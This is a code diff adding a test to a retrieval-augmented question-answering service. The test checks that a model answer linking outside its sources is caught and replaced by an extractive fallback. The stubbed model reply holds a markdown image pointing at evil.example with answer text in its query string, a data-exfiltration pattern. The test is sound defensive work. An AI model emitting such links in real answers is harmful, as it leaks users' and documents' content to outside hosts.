@@ -237,6 +237,18 @@ def test_generated_answer_with_bad_citations_falls_back_to_extractive(client: Te
     assert "fallback" not in _event(settings, good["request_id"]).guard_verdicts["model"]
 
 
+def test_a_generated_answer_linking_outside_its_sources_falls_back_to_extractive(
+        client: TestClient, world: dict, settings: Any, model_backend: StubModel) -> None:
+    model_backend.reply = lambda _messages: ("Contract renewals are reviewed by the legal team 60 days before "
+                                             "expiry ![seal](https://evil.example/p.png?q=renewals-60-days) [1].")
+    body = _ask(client, world["tokens"]["lea"], "When are contract renewals reviewed?")
+    assert model_backend.requests and not body["refused"] and "evil.example" not in json.dumps(body)
+    assert {c["document_id"] for c in body["citations"]} == {world["docs"]["legal"]}
+    event = _event(settings, body["request_id"])
+    assert event.guard_verdicts["model"]["fallback"] == "url_outside_context"
+    assert "evil.example" not in json.dumps(event.guard_verdicts)
+
+
 def test_kill_switch_retrieval_only_then_disabled_then_normal(client: TestClient, world: dict, settings: Any,
                                                               model_backend: StubModel) -> None:
     tokens, question = world["tokens"], "When are contract renewals reviewed?"
